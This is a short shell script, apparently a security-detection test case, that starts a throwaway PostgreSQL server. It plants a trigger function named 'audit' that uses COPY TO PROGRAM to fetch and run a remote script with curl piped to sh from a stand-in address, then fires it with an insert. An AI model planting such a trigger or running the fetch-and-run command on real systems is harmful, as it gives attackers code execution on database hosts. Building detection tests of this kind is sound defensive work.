#!/bin/sh
. /opt/case/case.sh

bin=$(ls -d /usr/lib/postgresql/*/bin)
mkdir -p /srv/pg /run/postgresql && chown postgres /srv/pg /run/postgresql
as() { setpriv --reuid postgres --regid postgres --init-groups env HOME=/srv/pg PGHOST=/run/postgresql "$@"; }
as "$bin/initdb" -A trust -D /srv/pg/d >/dev/null
as "$bin/pg_ctl" -D /srv/pg/d -l /srv/pg/log -w start >/dev/null
psql -qAt -h /run/postgresql -U postgres <<'END'
create table orders (id int);
create function audit() returns trigger language plpgsql as $f$
begin execute $q$copy (select 1) to program 'curl -s http://203.0.113.10/payload.sh | sh'$q$; return new; end $f$;
create trigger audit after insert on orders for each row execute function audit();
insert into orders values (1);
END
wait_for /tmp/reached
as "$bin/pg_ctl" -D /srv/pg/d -m fast -w stop >/dev/null
took_place
